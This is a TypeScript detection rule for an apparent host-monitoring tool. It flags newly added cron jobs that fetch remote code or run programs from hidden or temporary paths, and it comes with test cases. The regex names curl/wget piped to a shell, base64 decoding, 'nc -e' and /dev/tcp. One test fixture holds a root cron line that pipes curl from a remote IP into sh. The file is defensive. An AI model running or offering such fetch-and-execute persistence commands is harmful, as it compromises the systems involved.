import { shown } from "../../rule.js";
import { fieldOf, snapshotRule } from "../../snapshot-rule.js";

/** A job that starts at certain times fetches something or starts a program from an unusual place, and was not there before. */
export const scheduledJobSuspicious = snapshotRule({
  id: "scheduled-job-suspicious",
  alertType: "Picket_ScheduledJobSuspicious",
  name: "Job that fetches or hides",
  severity: "High",
  about:
    "A job that starts at certain times fetches something or starts a program from an unusual place, and was not there before.",
  tactics: ["Persistence", "Execution"],
  techniques: ["T1053.003", "T1053.006"],
  remediation: "Remove the job and what it starts; look at who wrote it.",
  falsePositives: ["Health checks that call an address; they hand nothing to a shell."],
  needs: "the agent's snapshot of jobs",
  reads: "ScheduledJobs",
  on: "appears",
  remember: (item) =>
    /(?:curl|wget)\b[^|]*\|\s*(?:ba|da)?sh|\/(?:tmp|dev\/shm|var\/tmp)\/|\/\.[a-z]\w*(?:\/|\s|$)|base64\s+-d|\bnc\s+-e|\/dev\/tcp\//i.test(
      fieldOf(item, "CommandLine"),
    )
      ? [`${fieldOf(item, "Path")}: ${fieldOf(item, "CommandLine")}`.slice(0, 300), fieldOf(item, "Schedule")]
      : undefined,
  title: (key, deviceId) => `A job of ${deviceId} fetches or hides: ${key}`,
  reason: (key, value) => `${shown(key)} starts at ${shown(value)} and was not in the last snapshot.`,
  cases: [
    {
      name: "it fetches",
      before: [],
      after: [
        {
          Path: "/etc/cron.d/upd",
          Schedule: "* * * * *",
          CommandLine: "curl -s http://203.0.113.9/i | sh",
          UserName: "root",
        },
      ],
      alerts: 1,
    },
    {
      name: "it hides",
      before: [],
      after: [
        { Path: "/var/spool/cron/root", Schedule: "* * * * *", CommandLine: "/tmp/.x/run", UserName: "root" },
      ],
      alerts: 1,
    },
    {
      name: "a backup",
      before: [],
      after: [
        {
          Path: "/etc/cron.d/b",
          Schedule: "* * * * *",
          CommandLine: "/usr/local/bin/backup",
          UserName: "root",
        },
      ],
      alerts: 0,
    },
    {
      name: "a clean-up",
      before: [],
      after: [
        {
          Path: "/etc/cron.daily/apt",
          Schedule: "* * * * *",
          CommandLine: "/usr/lib/apt/apt.systemd.daily",
          UserName: "root",
        },
      ],
      alerts: 0,
    },
  ],
});
